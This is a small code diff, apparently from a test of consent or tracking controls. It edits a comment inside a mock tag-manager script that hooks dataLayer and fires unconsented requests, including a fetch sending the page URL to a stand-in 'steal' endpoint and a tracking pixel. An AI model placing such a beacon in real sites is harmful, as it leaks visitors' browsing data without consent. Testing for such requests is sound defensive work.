@@ -21,7 +21,7 @@ const GOOGLE = `
     window.started = true;
     for (const entry of dataLayer.slice()) send(entry);
     dataLayer.push = function (entry) { Array.prototype.push.call(dataLayer, entry); send(entry); };
-    // What no group has agreed to.
+    // No group has consented to these requests.
     fetch("https://elsewhere.example/steal?dl=" + encodeURIComponent(location.href), { mode: "no-cors" }).catch(() => {});
     new Image().src = "https://elsewhere.example/pixel.gif";
   }`;
